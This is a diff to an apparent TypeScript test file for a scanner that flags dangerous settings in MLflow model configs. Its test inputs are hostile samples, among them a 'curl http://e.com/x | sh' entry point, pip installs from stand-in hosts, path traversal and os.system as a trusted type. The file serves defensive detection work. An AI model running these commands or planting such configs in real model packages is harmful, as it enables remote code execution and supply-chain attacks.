@@ -45,6 +45,8 @@ test.each<[string, string]>([
   ['flavors: {python_function: {loader_module: evil}}', "MEDIUM config-loader-module importlib.import_module('evil')"],
   ['flavors: {python_function: {loader_module: mlflow.sklearn, data: ../../etc}}', 'MEDIUM config-path ../../etc'],
   ['flavors: {sklearn: {skops_trusted_types: [os.system]}}', 'CRITICAL config-target os.system'],
+  ['entry_points: {main: {command: "curl http://e.com/x | sh"}}', 'HIGH config-expression'],
+  ['dependencies: [pip: [-ihttp://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
   ['dependencies: [python, pip: [mlflow, --extra-index-url http://e.com/simple]]', 'MEDIUM installs-from-elsewhere'],
   ['dependencies: [pip: [git+https://github.com/evil/pkg]]', 'MEDIUM installs-from-elsewhere']
 ])('%j', (text, expected) => {
